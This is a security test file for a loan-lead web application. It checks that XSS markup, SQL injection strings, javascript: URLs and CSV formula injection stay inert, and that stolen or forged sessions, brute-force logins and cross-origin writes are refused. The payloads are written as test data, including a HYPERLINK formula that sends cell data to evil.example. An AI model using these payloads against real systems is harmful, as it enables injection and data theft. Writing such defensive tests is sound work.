import crypto from "node:crypto";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { ApiClient, uniqueEmail } from "../support/api-client.ts";
import { validLeadPayload } from "../support/lead-payload.ts";
import { ADMIN_EMAIL, ADMIN_PASSWORD } from "../support/server.ts";

// Injection through every text an outsider or an admin can put on a page: SEO records (title,
// description, JSON-LD), bank texts, lead and contact names shown in the admin area; SQL
// metacharacters in searches and filters; and the session, throttling and CSRF defences that keep
// a stolen or forged request from doing harm (docs/security.md). The server is shared with other
// test files, so everything edited here is put back.

const baseUrl = inject("baseUrl");
const ID = `inj${crypto.randomBytes(4).toString("hex")}`;
/** A script that would run if any of these texts reached the page as markup. */
const SCRIPT = `<script>alert(${ID})</script>`;
const IMG = `<img src=x onerror=alert(${ID})>`;
const SQL = "'; DROP TABLE users; --";

const admin = new ApiClient(baseUrl);

/** Text as React writes it into HTML. */
const escaped = (text: string) =>
  text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#x27;");

/**
 * The page is safe when no injected markup survives as markup: no raw <script>/<img onerror> of
 * ours, every <script> element is either ours (nonced) or JSON-LD data that cannot close itself.
 */
function expectInert(html: string, where: string) {
  expect(html, where).not.toContain(SCRIPT);
  expect(html, where).not.toContain(`<script>alert(`);
  expect(html.toLowerCase(), where).not.toMatch(/<img[^>]*onerror/);
  const nonce = /<script[^>]*\snonce="([^"]+)"/.exec(html)?.[1];
  for (const match of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)) {
    const [, attrs, body] = match;
    if (/type="application\/ld\+json"/.test(attrs)) {
      expect(body.toLowerCase(), `${where}: JSON-LD`).not.toMatch(/<\/script|<!--/);
      expect(() => JSON.parse(body), `${where}: JSON-LD parses`).not.toThrow();
    } else {
      expect(attrs, `${where}: every executable script carries the nonce`).toContain(
        `nonce="${nonce}"`,
      );
    }
  }
}

function lead(overrides: Record<string, unknown>) {
  return validLeadPayload({ last_name: `Rao ${ID}`, email: uniqueEmail(ID), ...overrides });
}

/**
 * Leads this file created; erased at the end (docs/product/team.md "Erasure and retention":
 * erasure).
 */
const createdLeads: number[] = [];

async function postLead(overrides: Record<string, unknown>) {
  const res = await new ApiClient(baseUrl).post("/api/eligibility-applications", lead(overrides));
  expect(res.status, res.text).toBe(201);
  createdLeads.push(res.json.id);
  return res.json.id as number;
}

beforeAll(async () => {
  await admin.login();
});

afterAll(async () => {
  for (const id of createdLeads) await admin.delete(`/api/eligibility-applications/${id}`);
});

describe("admin-edited SEO texts render inert", () => {
  // biome-ignore lint/suspicious/noExplicitAny: the record as GET returns it
  let original: any;

  beforeAll(async () => {
    original = (await admin.get("/api/seo/home")).json;
    expect(original.meta_title).toBeTruthy();
  });

  afterAll(async () => {
    await admin.put("/api/seo/home", {
      meta_title: original.meta_title,
      meta_description: original.meta_description,
      schema_json: original.schema_json,
    });
  });

  it("title, description and JSON-LD carrying </script><script> stay text and data", async () => {
    // "GharSetu" stays in the title: other test files read the home record at the same time.
    const title = `GharSetu </title>${SCRIPT}`;
    const description = `"><script>alert(${ID})</script><!-- ${IMG}`;
    const schema = {
      "@context": "https://schema.org",
      "@type": "WebSite",
      name: `</script>${SCRIPT}<!--`,
      description: "\u2028\u2029 & <b>bold</b>",
    };
    const put = await admin.put("/api/seo/home", {
      meta_title: title,
      meta_description: description,
      schema_json: JSON.stringify(schema),
    });
    expect(put.status, put.text).toBe(200);
    try {
      const page = await new ApiClient(baseUrl).get("/");
      expect(page.status).toBe(200);
      expectInert(page.text, "/");
      expect(page.text).toContain(`<title>${escaped(title)}</title>`);
      expect(page.text).toContain(escaped(description));
      const ld = [
        ...page.text.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g),
      ].map((m) => JSON.parse(m[1]));
      // The data survives intact: only its serialisation is escaped.
      expect(ld).toContainEqual(schema);
    } finally {
      await admin.put("/api/seo/home", {
        meta_title: original.meta_title,
        meta_description: original.meta_description,
        schema_json: original.schema_json,
      });
    }
  });

  it("refuses schema JSON that is not JSON (400), leaving the record as it was", async () => {
    const res = await admin.put("/api/seo/home", {
      meta_title: "x",
      meta_description: "y",
      schema_json: `{"name": "</script>${SCRIPT}"`,
    });
    expect(res.status).toBe(400);
    expect((await admin.get("/api/seo/home")).json.meta_title).toBe(original.meta_title);
  });
});

describe("admin-edited bank texts render inert", () => {
  // biome-ignore lint/suspicious/noExplicitAny: the bank as GET returns it
  let original: any;

  beforeAll(async () => {
    original = (await admin.get("/api/banks/sbi")).json;
    expect(original.slug).toBe("sbi");
  });

  afterAll(async () => {
    await admin.put("/api/banks/sbi", original);
  });

  it("description and list items carrying markup stay text on the bank page and in the API", async () => {
    const description = `Trusted lender. ${SCRIPT} ${IMG}`;
    const pro = `Low rates ${SCRIPT}`;
    const put = await admin.put("/api/banks/sbi", {
      ...original,
      description,
      pros: [pro, ...original.pros.slice(1)],
    });
    expect(put.status, put.text).toBe(200);
    try {
      // Stored as typed: escaping belongs to the output, not the data.
      expect((await new ApiClient(baseUrl).get("/api/banks/sbi")).json.description).toBe(
        description,
      );
      for (const path of ["/loan/sbi", "/"]) {
        const page = await new ApiClient(baseUrl).get(path);
        expect(page.status, path).toBe(200);
        expectInert(page.text, path);
      }
      const bankPage = (await new ApiClient(baseUrl).get("/loan/sbi")).text;
      expect(bankPage).toContain(escaped(description));
    } finally {
      await admin.put("/api/banks/sbi", original);
    }
  });

  it("refuses a javascript: or data: logo URL", async () => {
    for (const logo of [
      "javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "//evil.example/x.svg",
    ]) {
      const res = await admin.put("/api/banks/sbi", { ...original, logo });
      expect(res.status, logo).toBe(400);
    }
  });
});

describe("lead and contact texts render inert in the admin area", () => {
  it("shows a lead named with markup as text in the list, the detail page and the JSON", async () => {
    const id = await postLead({ first_name: SCRIPT, last_name: `${IMG} ${ID}` });
    const list = await admin.get(`/admin/eligibility?q=${ID}`);
    expect(list.status).toBe(200);
    expectInert(list.text, "/admin/eligibility");
    expect(list.text).toContain(escaped(SCRIPT));
    const detail = await admin.get(`/admin/eligibility/${id}`);
    expect(detail.status).toBe(200);
    expectInert(detail.text, `/admin/eligibility/${id}`);
    expect(detail.text).toContain(escaped(SCRIPT));
    const json = await admin.get(`/api/eligibility-applications/${id}`);
    expect(json.json.first_name).toBe(SCRIPT);
  });

  it("neutralises spreadsheet formulas in the CSV export", async () => {
    const formula = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
    await postLead({ first_name: formula, last_name: `@SUM(1) ${ID}` });
    const csv = await admin.get(`/api/eligibility-applications?format=csv&q=${ID}`);
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(csv.text).toContain(`'@SUM(1) ${ID}`);
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it("shows a contact message with markup as text on the admin messages page", async () => {
    const res = await new ApiClient(baseUrl).post("/api/contact-messages", {
      first_name: SCRIPT,
      last_name: ID,
      email: uniqueEmail(ID),
      phone: "9876543210",
      message: `${IMG} ${SCRIPT}`,
      consent: true,
    });
    expect(res.status, res.text).toBe(201);
    const page = await admin.get("/admin/messages");
    expect(page.status).toBe(200);
    expectInert(page.text, "/admin/messages");
    expect(page.text).toContain(escaped(IMG));
  });
});

describe("SQL metacharacters are data", () => {
  // The admin's fresh sign-in may wait for the next 30-s step for its code.
  it("finds a lead named '; DROP TABLE users; -- literally, and the users table is still there", {
    timeout: 90_000,
  }, async () => {
    const id = await postLead({ last_name: `O'Brien${SQL} ${ID}` });
    const res = await admin.get(`/api/eligibility-applications?q=${encodeURIComponent(SQL)}`);
    expect(res.status).toBe(200);
    expect(res.json.map((r: { id: number }) => r.id)).toContain(id);
    // Users survived: the admin signs in again (both steps).
    const fresh = new ApiClient(baseUrl);
    await fresh.login(ADMIN_EMAIL, ADMIN_PASSWORD, { fresh: true });
    expect((await fresh.get("/api/auth/me")).status).toBe(200);
  });

  it("treats quotes, comments and LIKE wildcards in q as plain characters", async () => {
    await postLead({ last_name: `Plain ${ID}` });
    const count = async (q: string) => {
      const res = await admin.get(
        `/api/eligibility-applications?pageSize=1&q=${encodeURIComponent(q)}`,
      );
      expect(res.status, q).toBe(200);
      return Number(res.headers.get("x-total-count"));
    };
    expect(await count(ID)).toBeGreaterThan(0);
    for (const q of [
      `${ID}' OR '1'='1`,
      `${ID}" OR "1"="1`,
      `${ID}%`,
      `${ID.slice(0, -1)}_`,
      `${ID}'--`,
      `${ID}/*`,
      `${ID}\\`,
      `${ID}!`,
    ]) {
      expect(await count(q), q).toBe(0);
    }
    // A NUL byte may be refused (PostgreSQL text cannot hold one) but never breaks the query.
    const nul = await admin.get(`/api/eligibility-applications?pageSize=1&q=${ID}%00`);
    expect([200, 400]).toContain(nul.status);
    if (nul.status === 200) expect(nul.headers.get("x-total-count")).toBe("0");
  });

  it.each([
    "eligible=true' OR 1=1 --",
    "page=1;DROP TABLE users",
    "pageSize=-1",
    "pageSize=1e9",
    "status=new' OR '1'='1",
    "format=csv;",
  ])("answers 400 to filters that are not what they claim, never 500: %s", async (query) => {
    const res = await admin.get(`/api/eligibility-applications?${query.replaceAll(" ", "%20")}`);
    expect(res.status, query).toBe(400);
  });

  it("keeps public lookups harmless: projects, banks and SEO pages", async () => {
    const anonymous = new ApiClient(baseUrl);
    const projects = await anonymous.get(
      `/api/projects?bank=${encodeURIComponent("' OR '1'='1")}&city=${encodeURIComponent("mumbai' --")}`,
    );
    expect(projects.status).toBe(200);
    expect(projects.json).toEqual([]);
    expect((await anonymous.get(`/api/banks/${encodeURIComponent("sbi' OR '1'='1")}`)).status).toBe(
      404,
    );
    expect((await anonymous.get(`/api/seo/${encodeURIComponent("home' --")}`)).status).toBe(404);
  });

  it("does not sign in with SQL in the email", async () => {
    const res = await new ApiClient(baseUrl).post("/api/auth/login", {
      email: `${ADMIN_EMAIL}' --`,
      password: "x",
    });
    expect(res.status).toBe(401);
  });
});

describe("sessions, throttling and cross-origin writes", () => {
  // A session of its own: logging out the shared one would end it for the other files.
  it("a session cookie from before logout no longer works (401)", { timeout: 90_000 }, async () => {
    const client = new ApiClient(baseUrl);
    await client.login(ADMIN_EMAIL, ADMIN_PASSWORD, { fresh: true });
    const stolen = client.cookie;
    expect(stolen).toMatch(/^__session=/);
    expect((await client.post("/api/auth/logout")).status).toBe(204);
    const replay = new ApiClient(baseUrl);
    replay.cookie = stolen;
    expect((await replay.get("/api/auth/me")).status).toBe(401);
    expect((await replay.get("/api/eligibility-applications")).status).toBe(401);
    const page = await replay.get("/admin/eligibility");
    expect(page.status).toBe(302);
    expect(page.headers.get("location")).toMatch(/^\/login\?redirectTo=/);
  });

  it("a cookie with a forged or altered signature is ignored", async () => {
    const client = new ApiClient(baseUrl);
    await client.login();
    const eq = client.cookie.indexOf("=");
    const name = client.cookie.slice(0, eq);
    const value = client.cookie.slice(eq + 1);
    const forged = new ApiClient(baseUrl);
    forged.cookie = `${name}=${value.slice(0, -3)}${value.slice(-3) === "AAA" ? "BBB" : "AAA"}`;
    expect((await forged.get("/api/auth/me")).status).toBe(401);
  });

  it("throttles sign-in attempts from one address (429), even with the right password", async () => {
    const attacker = new ApiClient(baseUrl);
    let throttled = 0;
    for (let i = 0; i < 12; i++) {
      const res = await attacker.post("/api/auth/login", {
        email: ADMIN_EMAIL,
        password: `guess-${i}`,
      });
      expect([401, 429], `attempt ${i + 1}`).toContain(res.status);
      if (res.status === 429) {
        throttled++;
        expect(res.json.error).toMatch(/too many/i);
      }
    }
    expect(throttled).toBeGreaterThan(0);
    const right = await attacker.post("/api/auth/login", {
      email: ADMIN_EMAIL,
      password: ADMIN_PASSWORD,
    });
    expect(right.status).toBe(429);
    expect(right.headers.get("set-cookie")).toBeNull();
  });

  it("refuses cross-origin writes (403) and stores nothing", async () => {
    const marker = `xorigin${ID}`;
    const forged = new ApiClient(baseUrl);
    for (const origin of ["https://evil.example", "null", `http://localhost.evil.example`]) {
      const res = await forged.post("/api/eligibility-applications", lead({ last_name: marker }), {
        origin,
      });
      expect(res.status, origin).toBe(403);
    }
    const login = await forged.post(
      "/api/auth/login",
      { email: ADMIN_EMAIL, password: ADMIN_PASSWORD },
      { origin: "https://evil.example" },
    );
    expect(login.status).toBe(403);
    expect(login.headers.get("set-cookie")).toBeNull();
    // The admin's own browser, tricked by another site: the cookie is there, the origin is not ours.
    const csrf = await admin.request(
      "PUT",
      "/api/seo/home",
      { meta_title: "pwned", meta_description: "pwned", schema_json: "{}" },
      { origin: "https://evil.example" },
    );
    expect(csrf.status).toBe(403);
    expect((await admin.get("/api/seo/home")).json.meta_title).not.toBe("pwned");
    const found = await admin.get(`/api/eligibility-applications?pageSize=1&q=${marker}`);
    expect(found.headers.get("x-total-count")).toBe("0");
  });
});
